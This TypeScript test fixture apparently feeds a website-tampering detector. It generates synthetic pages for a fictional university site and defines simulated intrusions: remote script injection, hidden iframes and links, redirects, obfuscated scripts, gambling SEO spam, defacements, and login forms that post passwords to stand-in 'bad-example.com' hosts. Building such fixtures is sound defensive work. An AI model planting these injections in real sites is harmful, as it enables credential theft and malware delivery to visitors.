import { randomOf } from '../../src/engines/scan-reports/mutate.ts';
import { sentences } from './campus.ts';

/** A page of a site as it stands on one day, at one fetch: what moves between fetches is drawn from `fetch`, what people change from `day`. */
export type Template = (site: number, day: number, fetch: number) => { title: string; head?: string; body: string };
const list = (seed: number, n: number, tag = 'news'): string => `<div class="${tag}"><ul>${Array.from({ length: n }, (_, i) => `<li><a href="/info/${seed - i}.htm">${sentences(seed - i, 1)}</a><span>11-${(i % 28) + 1}</span></li>`).join('')}</ul></div>`;
const paragraphs = (seed: number, n: number): string => Array.from({ length: n }, (_, i) => `<p>${sentences(seed * 100 + i, 4)}</p>`).join('');
/** How often people change things: about one day in `every`. */
const times = (site: number, day: number, every: number): number => { let n = 0; for (let d = 0; d <= day; d++) if (randomOf(site * 1000 + d * 7 + every)() < 1 / every) n++; return n; };
const partners = ['moe.gov.cn', 'cernet.com', 'weibo.com', 'xuexi.cn', 'cnki.net'];

/** Pages that change without harm. The first half is for tuning, the second is kept for the test. */
export const templates: Readonly<Record<'tuning' | 'test', Readonly<Record<string, Template>>>> = {
  tuning: {
    home: (s, d, f) => ({ title: '首页-示例大学教务处', body: `<div class="date">今天是 2026 年 ${d} 日，访问量 ${f * 17}</div>${list(s * 500 + times(s, d, 1.5) * 2, 10)}${list(s * 900 + times(s, d, 3), 8, 'notice')}<div class="banner"><img src="/img/b${f % 5}.jpg"></div>` }),
    article: (s, d, f) => ({ title: `${sentences(s, 1)}-教务处`, body: `<div class="article"><h1>${sentences(s, 1)}</h1><span>点击 ${f * 3 + d} 次</span>${paragraphs(s, 8)}</div>` }),
    edited: (s, d) => ({ title: '学院简介', body: `<div class="article">${Array.from({ length: 10 }, (_, i) => `<p>${sentences(s * 100 + i + (i === times(s, d, 6) % 10 ? 7000 + times(s, d, 6) : 0), 4)}</p>`).join('')}</div>` }),
    login: (_s, _d, f) => ({ title: '统一身份认证', body: `<form action="/login"><input name="user"><input type="hidden" name="csrf" value="${f * 7919}"><img src="/captcha?${f}"></form><script>var ts=${f * 13};var token="t${f * 31}";</script><p>请使用学号或工号登录，忘记密码请联系信息化办公室。</p>` }),
    rotating: (s, _d, f) => ({ title: '合作单位', body: `${paragraphs(s, 3)}<div class="ads"><a href="https://www.${partners[f % 5]}/">合作单位</a></div>` }),
  },
  test: {
    listing: (s, d) => ({ title: '通知公告', body: `${list(s * 700 + times(s, d, 1), 20)}<div class="pages">共 ${200 + times(s, d, 1)} 条 1/${10 + Math.floor(times(s, d, 1) / 20)}</div>` }),
    widgets: (s, d, f) => ({ title: '图书馆', head: '<meta name="keywords" content="图书馆,示例大学">', body: `<div class="seat">剩余座位 ${f % 300}</div><div class="quote"><p>${sentences(d * 31 + s, 2)}</p></div>${paragraphs(s, 5)}<div class="weather">晴 ${d % 30}℃</div>` }),
    growing: (s, d) => ({ title: '规章制度', body: `<table>${Array.from({ length: 12 + times(s, d, 4) }, (_, i) => `<tr><td>${i + 1}</td><td><a href="/doc/${i}.pdf">${sentences(s * 50 + i, 1)}</a></td></tr>`).join('')}</table>` }),
    random_news: (s, d, f) => ({ title: '校园新闻', body: `${paragraphs(s, 4)}<div class="recommend"><ul>${Array.from({ length: 6 }, (_, i) => `<li><a href="/n/${(f * 7 + i * 3) % 40}.htm">${sentences(s * 90 + ((f * 7 + i * 3) % 40), 1)}</a></li>`).join('')}</ul></div><p>更新于 2026-11-${(d % 28) + 1} 共 ${f} 次</p>` }),
    contact: (s, d) => ({ title: times(s, d, 25) % 2 ? '联系我们-研究生院（更新）' : '联系我们-研究生院', body: `<div class="article"><p>地址：示例市学院路 ${s} 号</p><p>值班电话：010-6${1000000 + times(s, d, 10) * 37}</p>${paragraphs(s, 3)}</div><div class="links"><a href="https://www.moe.gov.cn">教育部</a></div>` }),
  },
};
export const wrap = (t: ReturnType<Template>): string => `<!DOCTYPE html><html lang="zh"><head><meta charset="utf-8"><title>${t.title}</title>${t.head ?? ''}<script src="/js/jquery.js"></script></head><body><div class="nav"><ul><li><a href="/">首页</a></li><li><a href="/about">概况</a></li></ul></div>${t.body}<div class="footer"><p>版权所有 示例大学 京ICP备05000000号</p></div></body></html>`;

export type Planting = (html: string, n: number) => string;
const inBody = (html: string, more: string): string => html.replace('<div class="footer">', `${more}<div class="footer">`);
const evil = (n: number): string => `bad${n}-example.com`;
/** What intruders do to a page; halves as above. */
export const plantings: Readonly<Record<'tuning' | 'test', Readonly<Record<string, Planting>>>> = {
  tuning: {
    'outside script': (h, n) => h.replace('</head>', `<script src="https://${evil(n)}/x.js"></script></head>`),
    'hidden frame': (h, n) => inBody(h, `<iframe src="http://${evil(n)}/" width=0 height=0></iframe>`),
    'dark links, inline': (h, n) => inBody(h, `<div style="display:none">${[1, 2, 3].map((i) => `<a href="http://www.${i}${evil(n)}">棋牌</a>`).join('')}</div>`),
    'title replaced': (h, n) => h.replace(/<title>[^<]*/, `<title>娱乐城官方网站 ${['澳门', '新葡京', '彩票'][n % 3]} 注册送彩金`),
    'whole page replaced': (_h, n) => `<html><head><title>Hacked by team ${n}</title></head><body bgcolor=black><h1>Hacked by team ${n}</h1><p>greetz to all our friends, security is an illusion here</p></body></html>`,
    'meta refresh': (h, n) => h.replace('</head>', `<meta http-equiv="refresh" content="3;url=https://${evil(n)}/"></head>`),
    'form to the outside': (h, n) => inBody(h, `<form action="https://${evil(n)}/p"><input type="password" name="p"></form>`),
    'packed script': (h, n) => inBody(h, `<script>eval(function(p,a,c,k,e,d){return p}('${n}',1,1,[]))</script>`),
  },
  test: {
    'links behind the end': (h, n) => `${h}<a href="http://${evil(n)}/">私服</a>`,
    'script that writes a script': (h, n) => inBody(h, `<script>var _m=document.createElement("script");_m.src="//cdn.${evil(n)}/hm.js?"+${n};document.head.appendChild(_m);</script>`),
    'script that leads on': (h, n) => h.replace('</head>', `<script>window.location.href="https://${evil(n)}/m";</script></head>`),
    'all text replaced, frame kept': (h, n) => h.replace(/(<div class="nav">.*?<\/ul><\/div>)[\s\S]*(<div class="footer">)/, `$1<div class="main"><p>${`体育投注平台首选第${n}站，真人视讯，电子游艺，彩票开奖，注册即送八十八元。`.repeat(6)}</p></div>$2`),
    'defacement inside': (h, n) => inBody(h, `<marquee><font color=red>This site was owned by crew${n}</font></marquee>`),
    'escaped bytes': (h) => inBody(h, `<script>var s="${'\\x68\\x74\\x74\\x70\\x3a\\x2f'.repeat(5)}";document.write(s)</script>`),
    'keywords replaced': (h, n) => (/name="keywords"/.test(h) ? h.replace(/(name="keywords" content=")[^"]*/, `$1百家乐,时时彩,外围投注${n}`) : h.replace(/<title>[^<]*/, `<title>百家乐_时时彩_外围投注${n}`)),
    'sign-in that posts away': (h, n) => (h.includes('<form action="') ? h.replace(/<form action="[^"]*/, `<form action="//${evil(n)}/login"`.slice(0, -1)) : inBody(h, `<form method="post" action="//${evil(n)}/login"><input name="u"></form>`)),
    'object from outside': (h, n) => inBody(h, `<embed src="http://${evil(n)}/a.swf" width="1" height="1">`),
    'links by class': (h, n) => inBody(h, `<style>.zx{position:absolute;left:-9999px}</style><div class="zx"><a href="https://${evil(n)}">代孕</a></div>`),
  },
};
